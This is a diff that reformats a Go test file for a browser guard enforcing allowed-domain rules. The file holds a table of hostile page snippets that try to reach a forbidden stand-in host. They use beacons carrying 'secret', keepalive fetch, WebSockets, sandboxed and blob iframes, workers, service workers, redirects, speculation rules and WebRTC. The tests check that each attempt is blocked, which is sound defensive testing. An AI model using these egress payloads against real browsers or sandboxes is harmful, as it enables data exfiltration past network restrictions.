@@ -22,21 +22,23 @@ import (
 	"github.com/skua-browser/skua/guard/policy"
 )
 
-// An attack is a way in which a page tries to reach a host that it may not reach. The page is at good.localhost; the host has the attack's name,
-// so that the log of the servers tells which attacks got through, and the log of refusals which were tried.
+// An attack is a way in which a page tries to reach a host that it may not reach. The page is at good.localhost; the
+// host has the attack's name, so that the log of the servers tells which attacks got through, and the log of refusals
+// which were tried.
 type attack struct {
-	name  string
-	page  string // EVIL is the origin of the host that is not allowed, HOST that without a scheme, GOOD the origin of the page
-	quiet bool   // what is refused is not told: the page says in its title that it has tried
-	blind bool   // a browser that we attached to does not let it be kept from the network, see docs/policy.md
-	long  bool   // it takes several documents to try, wherever that is: the last one says in its title that it has tried
+	name string
+	// EVIL is the origin of the host that is not allowed, HOST that without a scheme, GOOD the origin of the page
+	page  string
+	quiet bool // what is refused is not told: the page says in its title that it has tried
+	blind bool // a browser that we attached to does not let it be kept from the network, see docs/policy.md
+	long  bool // it takes several documents to try, wherever that is: the last one says in its title that it has tried
 }
 
 // done is what a page does when it has tried.
 const done = `document.title='tried'`
 
-// leaving is a page that starts workers and goes on to another one again and again, sooner or later after the workers: while they are told what
-// they may not.
+// leaving is a page that starts workers and goes on to another one again and again, sooner or later after the workers:
+// while they are told what they may not.
 func leaving(worker string) string {
 	return `<script>
 		const n = +location.search.slice(1), rounds = 6;
@@ -85,10 +87,19 @@ var attacks = []attack{
 	{name: "fetch-keepalive", page: `<script>fetch("EVIL/",{mode:"no-cors",keepalive:true})</script>`},
 	{name: "xhr", page: `<script>x=new XMLHttpRequest;x.open("GET","EVIL/");x.send()</script>`},
 	{name: "beacon", page: `<script>navigator.sendBeacon("EVIL/","secret")</script>`},
-	{name: "beacon-unload", page: `<script>addEventListener("pagehide",()=>navigator.sendBeacon("EVIL/","secret"));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`},
-	{name: "keepalive-unload", page: `<script>addEventListener("pagehide",()=>fetch("EVIL/",{mode:"no-cors",keepalive:true}));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`},
+	{
+		name: "beacon-unload",
+		page: `<script>addEventListener("pagehide",()=>navigator.sendBeacon("EVIL/","secret"));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`,
+	},
+	{
+		name: "keepalive-unload",
+		page: `<script>addEventListener("pagehide",()=>fetch("EVIL/",{mode:"no-cors",keepalive:true}));onload=()=>setTimeout(()=>location="GOOD/blank",0)</script>`,
+	},
 	{name: "eventsource", page: `<script>new EventSource("EVIL/")</script>`},
-	{name: "websocket", page: `<script>w=new WebSocket("ws://HOST/");w.onerror=w.onopen=()=>` + done + `</script>`, quiet: true},
+	{
+		name: "websocket", page: `<script>w=new WebSocket("ws://HOST/");w.onerror=w.onopen=()=>` + done + `</script>`,
+		quiet: true,
+	},
 	{name: "ping", page: `<a id=a href="#x" ping="EVIL/">x</a><script>onload=()=>a.click()</script>`},
 	{name: "csp-report", page: `<meta http-equiv=x><img src="GOOD/blocked.png">`},
 	{name: "link-header", page: `x`},
@@ -96,8 +107,14 @@ var attacks = []attack{
 	{name: "meta-refresh", page: `<meta http-equiv=refresh content="0;url=EVIL/">`},
 	{name: "location", page: `<script>location="EVIL/"</script>`},
 	{name: "form-get", page: `<form id=f action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
-	{name: "form-post", page: `<form id=f method=post action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
-	{name: "form-blank", page: `<form id=f target=_blank action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`},
+	{
+		name: "form-post",
+		page: `<form id=f method=post action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`,
+	},
+	{
+		name: "form-blank",
+		page: `<form id=f target=_blank action="EVIL/"><input name=a value=b></form><script>f.submit()</script>`,
+	},
 	{name: "popup", page: `<script>open("EVIL/")</script>`},
 	{name: "popup-later", page: `<script>w=open("about:blank");setTimeout(()=>w.location="EVIL/",20)</script>`},
 	{name: "popup-fetches", page: `<script>w=open("about:blank");w.fetch("EVIL/",{mode:"no-cors"})</script>`},
@@ -106,14 +123,35 @@ var attacks = []attack{
 	{name: "javascript-url", page: `<iframe src="javascript:fetch('EVIL/',{mode:'no-cors'})"></iframe>`},
 	{name: "data-frame", page: `<iframe src="data:text/html,<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
 	{name: "srcdoc", page: `<iframe srcdoc="<img src='EVIL/'>"></iframe>`},
-	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
+	{
+		name: "sandboxed",
+		page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`,
+	},
 	{name: "sandboxed-image", page: `<iframe sandbox srcdoc="<img src='EVIL/'>"></iframe>`},
-	{name: "sandboxed-nested", page: `<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='<img src=EVIL/>'></iframe>"></iframe>`},
-	{name: "sandboxed-made", page: `<script>f=document.createElement("iframe");f.sandbox="allow-scripts";f.srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})<\/script>";document.documentElement.append(f)</script>`},
-	{name: "sandboxed-websocket", page: `<iframe sandbox="allow-scripts" srcdoc="<script>w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>parent.postMessage(1,'*')</script>"></iframe><script>onmessage=()=>` + done + `</script>`, quiet: true},
-	{name: "blob-frame", page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`},
-	{name: "blob-page", page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`},
-	{name: "early-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`},
+	{
+		name: "sandboxed-nested",
+		page: `<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='<img src=EVIL/>'></iframe>"></iframe>`,
+	},
+	{
+		name: "sandboxed-made",
+		page: `<script>f=document.createElement("iframe");f.sandbox="allow-scripts";f.srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})<\/script>";document.documentElement.append(f)</script>`,
+	},
+	{
+		name: "sandboxed-websocket",
+		page: `<iframe sandbox="allow-scripts" srcdoc="<script>w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>parent.postMessage(1,'*')</script>"></iframe><script>onmessage=()=>` + done + `</script>`, quiet: true,
+	},
+	{
+		name: "blob-frame",
+		page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`,
+	},
+	{
+		name: "blob-page",
+		page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`,
+	},
+	{
+		name: "early-frame",
+		page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`,
+	},
 	{name: "redirect", page: `<script>location="GOOD/to/EVIL/"</script>`},
 	{name: "redirect-image", page: `<img src="GOOD/to/EVIL/">`},
 	{name: "redirect-fetch", page: `<script>fetch("GOOD/to/EVIL/",{mode:"no-cors"})</script>`},
@@ -121,24 +159,67 @@ var attacks = []attack{
 	{name: "redirect-twice", page: `<img src="GOOD/to/GOOD/to/EVIL/">`},
 	{name: "redirect-beacon", page: `<script>navigator.sendBeacon("GOOD/to/EVIL/")</script>`},
 	{name: "worker", page: `<script>new Worker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
-	{name: "worker-blob", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/',{mode:'no-cors'})"])))</script>`},
+	{
+		name: "worker-blob",
+		page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/',{mode:'no-cors'})"])))</script>`,
+	},
 	{name: "worker-import", page: `<script>new Worker("GOOD/js/importScripts('EVIL/')")</script>`},
-	{name: "worker-nested", page: `<script>new Worker("GOOD/js/new Worker('GOOD/js/fetch(\"EVIL/\",{mode:\"no-cors\"})')")</script>`},
-	{name: "worker-websocket", page: `<script>w=new Worker("GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)");w.onmessage=()=>` + done + `</script>`, quiet: true},
-	{name: "worker-leaving", page: leaving(`GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)`), quiet: true, long: true},
-	{name: "worker-leaving-nested", page: leaving(`GOOD/js/w=new Worker('GOOD/js/w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)');w.onmessage=w.onerror=()=>postMessage(1)`), quiet: true, long: true},
-	{name: "worker-answered", page: served(`onfetch=e=>{if(e.request.destination=='worker')e.respondWith(new Response(made,script))}`), quiet: true, long: true},
-	{name: "worker-routed", page: served(`oninstall=e=>e.waitUntil(caches.open('c').then(c=>c.put('GOOD/attack/worker-routed/made',new Response(made,script))).then(()=>e.addRoutes({condition:{urlPattern:'/attack/worker-routed/made'},source:'cache'})));onfetch=()=>0`), quiet: true, long: true},
+	{
+		name: "worker-nested",
+		page: `<script>new Worker("GOOD/js/new Worker('GOOD/js/fetch(\"EVIL/\",{mode:\"no-cors\"})')")</script>`,
+	},
+	{
+		name: "worker-websocket",
+		page: `<script>w=new Worker("GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)");w.onmessage=()=>` + done + `</script>`, quiet: true,
+	},
+	{
+		name: "worker-leaving", page: leaving(`GOOD/js/w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>postMessage(1)`),
+		quiet: true, long: true,
+	},
+	{
+		name: "worker-leaving-nested",
+		page: leaving(
+			`GOOD/js/w=new Worker('GOOD/js/w=new WebSocket(\"ws://HOST/\");w.onerror=w.onopen=()=>postMessage(1)');w.onmessage=w.onerror=()=>postMessage(1)`), quiet: true, long: true,
+	},
+	{
+		name: "worker-answered",
+		page: served(`onfetch=e=>{if(e.request.destination=='worker')e.respondWith(new Response(made,script))}`), quiet: true,
+		long: true,
+	},
+	{
+		name: "worker-routed",
+		page: served(
+			`oninstall=e=>e.waitUntil(caches.open('c').then(c=>c.put('GOOD/attack/worker-routed/made',new Response(made,script))).then(()=>e.addRoutes({condition:{urlPattern:'/attack/worker-routed/made'},source:'cache'})));onfetch=()=>0`), quiet: true, long: true,
+	},
 	{name: "shared-worker", page: `<script>new SharedWorker("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
-	{name: "service-worker", page: `<script>navigator.serviceWorker.register("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`},
-	{name: "service-worker-import", page: `<script>navigator.serviceWorker.register("GOOD/js/importScripts('EVIL/')")</script>`},
+	{
+		name: "service-worker",
+		page: `<script>navigator.serviceWorker.register("GOOD/js/fetch('EVIL/',{mode:'no-cors'})")</script>`,
+	},
+	{
+		name: "service-worker-import",
+		page: `<script>navigator.serviceWorker.register("GOOD/js/importScripts('EVIL/')")</script>`,
+	},
 	{name: "download-link", page: `<a id=a download href="EVIL/download">x</a><script>onload=()=>a.click()</script>`},
 	{name: "download", page: `<script>onload=()=>location="EVIL/download"</script>`},
 	{name: "svg", page: `<svg><image href="EVIL/"/></svg>`},
-	{name: "speculation", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/"]}],"prerender":[{"source":"list","urls":["EVIL/"]}]}</script><script>setTimeout(()=>` + done + `,500)</script>`, quiet: true, blind: true},
-	{name: "webrtc", page: `<script>p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"},{urls:"turn:STUN",username:"u",credential:"c"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))</script><script>if(!window.RTCPeerConnection)` + done + `</script>`, quiet: true},
-	{name: "webrtc-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);try{p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))}catch{` + done + `}</script>`, quiet: true},
-	{name: "webtransport", page: `<script>try{w=new WebTransport("https://QUIC/");w.ready.then(()=>` + done + `,()=>` + done + `)}catch{` + done + `}</script>`, quiet: true},
+	{
+		name: "speculation",
+		page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/"]}],"prerender":[{"source":"list","urls":["EVIL/"]}]}</script><script>setTimeout(()=>` + done + `,500)</script>`, quiet: true, blind: true,
+	},
+	{
+		name: "webrtc",
+		page: `<script>p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"},{urls:"turn:STUN",username:"u",credential:"c"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))</script><script>if(!window.RTCPeerConnection)` + done + `</script>`, quiet: true,
+	},
+	{
+		name: "webrtc-frame",
+		page: `<script>f=document.createElement("iframe");document.documentElement.append(f);try{p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))}catch{` + done + `}</script>`, quiet: true,
+	},
+	{
+		name: "webtransport",
+		page: `<script>try{w=new WebTransport("https://QUIC/");w.ready.then(()=>` + done + `,()=>` + done + `)}catch{` +
+			done + `}</script>`, quiet: true,
+	},
 }
 
 // battlefield is where attacks are tried: the allowed server, and the one that is not, under the names of the attacks.
@@ -152,7 +233,10 @@ type battlefield struct {
 }
 
 func newBattlefield(t testing.TB) *battlefield {
-	b := &battlefield{reached: map[string]int{}, opened: map[string]bool{}, stun: map[string]net.PacketConn{}, quic: map[string]net.PacketConn{}}
+	b := &battlefield{
+		reached: map[string]int{}, opened: map[string]bool{}, stun: map[string]net.PacketConn{},
+		quic: map[string]net.PacketConn{},
+	}
 	b.evil = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		name, _, _ := strings.Cut(r.Host, ".")
 		b.hit(name)
@@ -298,7 +382,10 @@ func hasTried(c *sessiontest.Client) bool {
 const squads = 6
 
 // run has sessions try attacks at a time, and calls after for each attack.
-func (b *battlefield) run(t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool, after func(*sessiontest.Client, attack)) {
+func (b *battlefield) run(
+	t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool,
+	after func(*sessiontest.Client, attack),
+) {
 	t.Helper()
 	t.Run("attacks", func(t *testing.T) { // which ends when all of them have been tried
 		for n := range sessions {
@@ -317,11 +404,14 @@ func (b *battlefield) run(t *testing.T, sessions int, newClient func(testing.TB)
 }
 
 // tryAll opens the pages of attacks one after the other in a caller's session.
-func (b *battlefield) tryAll(c *sessiontest.Client, mine []attack, args []string, after func(*sessiontest.Client, attack)) {
+func (b *battlefield) tryAll(
+	c *sessiontest.Client, mine []attack, args []string, after func(*sessiontest.Client, attack),
+) {
 	c.T.Helper()
 	c.Do(append(slices.Clone(args), "open", b.goodOrigin()+"/")...)
 	for _, a := range mine {
-		reply := c.Try("open", b.goodOrigin()+"/attack/"+a.name) // a page that goes elsewhere at once may not be seen to arrive
+		// a page that goes elsewhere at once may not be seen to arrive
+		reply := c.Try("open", b.goodOrigin()+"/attack/"+a.name)
 		require.True(c.T, b.wasOpened(a.name), "%s: its page was not opened: %v", a.name, reply.Err)
 		after(c, a)
 		for _, tab := range c.Tabs() {
@@ -339,7 +429,9 @@ func TestHostilePagesReachTheirHostsWithoutRules(t *testing.T) {
 	}
 	b := newBattlefield(t)
 	b.run(t, squads, host.NewClient, nil, nil, func(c *sessiontest.Client, a attack) {
-		assert.Eventually(c.T, func() bool { return b.was(a.name) }, attackLimit, attackLook, "%s: an attack that does not work at all proves nothing", a.name)
+		assert.Eventually(c.T, func() bool {
+			return b.was(a.name)
+		}, attackLimit, attackLook, "%s: an attack that does not work at all proves nothing", a.name)
 		if a.long { // it goes from document to document by itself, which would end the navigation to the next attack
 			assert.Eventually(c.T, func() bool { return hasTried(c) }, attackLimit, attackLook, "%s did not end", a.name)
 		}
@@ -352,8 +444,12 @@ const (
 	attackLook  = 5 * time.Millisecond
 )
 
-// hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what was refused.
-func (b *battlefield) hold(t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool, told bool) {
+// hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what
+// was refused.
+func (b *battlefield) hold(
+	t *testing.T, sessions int, newClient func(testing.TB) *sessiontest.Client, args []string, skip func(attack) bool,
+	told bool,
+) {
 	b.run(t, sessions, newClient, args, skip, func(c *sessiontest.Client, a attack) {
 		if !told && !a.long {
 			return
@@ -381,7 +477,9 @@ func TestHostilePagesReachNothingInAnAttachedBrowser(t *testing.T) {
 	}
 	b := newBattlefield(t)
 	theirs := sessiontest.StartTheirs(t, t.TempDir())
-	b.hold(t, 1, host.NewClient, []string{"--cdp", theirs.Port, "--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
+	b.hold(t, 1, host.NewClient, []string{"--cdp", theirs.Port, "--allowed-domains", onlyGood}, func(a attack) bool {
+		return a.blind
+	}, false)
 }
 
 func TestHostilePagesReachNothingInAProfile(t *testing.T) {
